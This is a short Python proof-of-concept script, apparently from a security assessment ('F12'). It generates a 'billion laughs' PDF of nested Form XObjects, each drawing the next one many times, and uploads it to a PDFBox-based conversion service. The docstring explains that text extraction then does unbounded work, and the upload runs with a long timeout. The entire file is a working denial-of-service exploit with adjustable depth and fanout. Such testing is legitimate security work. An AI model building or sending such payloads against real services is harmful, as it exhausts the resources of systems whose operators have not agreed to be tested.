"""F12: a PDF "billion laughs": Form XObjects that each draw the next one FANOUT times, LEVELS deep, the
last one showing a short line of text. The file is ~2 KB; the page shows FANOUT^LEVELS lines, which
PDFBox's text extraction walks one by one (no bound on the work per page; convertGuarded only turns
a stack overflow or OOM into a 4xx, it bounds no time)."""
import os, zlib
from rt import *

levels, fanout = int(os.environ.get("LEVELS", "4")), int(os.environ.get("FANOUT", "10"))

def pdf(levels, fanout):
    objs = {}
    # 1 catalog, 2 pages, 3 page, 4 font, 5 page content, 6.. forms (6 = level 0)
    first_form = 6
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objs[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    objs[4] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    objs[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
               b"/Resources << /Font << /F1 4 0 R >> /XObject << /X 6 0 R >> >> >>")
    page = b"/X Do\n"
    objs[5] = b"<< /Length %d >>\nstream\n" % len(page) + page + b"\nendstream"
    for lvl in range(levels + 1):
        n = first_form + lvl
        if lvl < levels:
            body = b"/X Do\n" * fanout
            res = b"<< /XObject << /X %d 0 R >> /Font << /F1 4 0 R >> >>" % (n + 1)
        else:
            body = b"BT /F1 10 Tf 72 700 Td (Quarry form fanout line) Tj ET\n"
            res = b"<< /Font << /F1 4 0 R >> >>"
        objs[n] = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources " + res
                   + b" /Length %d >>\nstream\n" % len(body) + body + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for n in sorted(objs):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    xref = len(out)
    size = max(objs) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += b"%010d 00000 n \n" % offsets[n]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)

src = pdf(levels, fanout)
print("pdf bytes:", len(src), "lines drawn:", fanout ** levels)
show("pdf fanout %d^%d" % (fanout, levels), upload("fanout-%d-%d.pdf" % (fanout, levels), src, ctype="application/pdf", timeout=900), 300)
